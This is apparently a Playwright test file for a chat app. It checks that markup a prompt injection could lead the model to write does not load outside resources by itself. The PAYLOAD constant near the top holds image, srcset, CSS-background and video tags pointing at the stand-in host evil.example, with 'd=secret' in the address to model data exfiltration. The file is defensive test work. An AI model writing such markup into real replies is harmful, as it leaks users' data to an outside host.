import { expect, Request, test } from "@playwright/test";
import { BASE_URL } from "../playwright.config";
import { newConversation, pickLanguage, signIn, watchPageErrors } from "./helpers";

// What a prompt injection would have the model write: each of these loads an address by itself in
// a page that shows it as HTML, with whatever the model put into the address.
const IMAGE = "http://evil.example/c.png?d=secret";
const PAYLOAD =
  `![s](${IMAGE}) ` +
  `<img srcset="http://evil.example/s.png 1x, http://evil.example/s2.png 2x"> ` +
  `<p style="background:url(http://evil.example/bg.png)">styled</p> ` +
  `<video autoplay src="http://evil.example/v.mp4"></video>`;

// The page's Content-Security-Policy would block most of these as well; this looks at what the
// rendered markup alone makes the browser do.
test.use({ bypassCSP: true });

test("nothing from the model's text loads by itself; an image loads only when its link is clicked", async ({
  page,
}) => {
  const errors = watchPageErrors(page);
  const app = new URL(BASE_URL).origin;
  // Every request of the context (a popup included) that leaves the app.
  const outside: string[] = [];
  page.context().on("request", (request: Request) => {
    const url = request.url();
    if (url.startsWith("http") && new URL(url).origin !== app) outside.push(url);
  });
  // The outside site, answered here: a request to it is seen, and nothing leaves the machine.
  const served: string[] = [];
  await page.context().route("http://evil.example/**", (route) => {
    served.push(route.request().url());
    return route.fulfill({ status: 200, contentType: "text/plain", body: "outside" });
  });

  await signIn(page);
  await newConversation(page, `/note ${PAYLOAD}`);
  // The reader's own line, the card's arguments (and its preview, where the tool gives one): text.
  await expect(page.locator(".messages .message.user .body").last()).toHaveText(`/note ${PAYLOAD}`);
  const card = page.locator(".approval-card");
  await expect(card).toContainText("evil.example/c.png?d=secret");
  await expect(card.locator("img, video, picture, source, [style], [srcset]")).toHaveCount(0);

  await card.getByRole("button", { name: "Apply" }).click();
  // The reply carries the tool's result, the payload in it rendered as markdown and sanitised.
  const reply = page.locator(".messages .message.assistant").last();
  await expect(reply).toContainText("Noted. Saved note");
  await expect(reply).toContainText("styled");
  // Time for anything lazy (an image scrolled into view, a poster, a stylesheet) to ask.
  await page.waitForTimeout(1000);
  expect(outside).toEqual([]);
  const link = reply.getByRole("link", { name: "Image from evil.example — open" });
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute("href", IMAGE);
  await expect(link.locator("[lang=de]")).toBeHidden();
  await expect(page.locator(".messages").locator("img, video, audio, picture, source, [style], [srcset]")).toHaveCount(
    0,
  );

  // The stored rendering, drawn by the server on a page load, loads nothing either.
  await page.reload();
  await expect(reply).toContainText("Noted. Saved note");
  await expect(reply.getByRole("link", { name: "Image from evil.example — open" })).toBeVisible();
  await page.waitForTimeout(1000);
  expect(outside).toEqual([]);
  expect(served).toEqual([]);

  // The reader's click, and only that, asks the outside site, in a tab of its own.
  const popup = page.waitForEvent("popup");
  await reply.getByRole("link", { name: "Image from evil.example — open" }).click();
  await (await popup).waitForLoadState();
  expect(served[0]).toBe(IMAGE);
  // (the new tab may ask for the site's icon besides)
  expect(outside.filter((url) => url !== IMAGE && !url.endsWith("/favicon.ico"))).toEqual([]);
  expect(errors).toEqual([]);
});

test("the image's link speaks the reader's language, from the same stored line", async ({ page }) => {
  await signIn(page);
  await newConversation(page, `/note ![chart](${IMAGE})`);
  await page.locator(".approval-card").getByRole("button", { name: "Apply" }).click();
  const reply = page.locator(".messages .message.assistant").last();
  await expect(reply.getByRole("link", { name: "Image from evil.example — open" })).toBeVisible();
  try {
    await pickLanguage(page, "DE");
    const german = reply.getByRole("link", { name: "Bild von evil.example — öffnen" });
    await expect(german).toBeVisible();
    await expect(german).toHaveAttribute("href", IMAGE);
    await expect(german.locator("[lang=en]")).toBeHidden();
  } finally {
    // Back to English for the other tests, which share the demo user.
    await pickLanguage(page, "EN");
  }
});
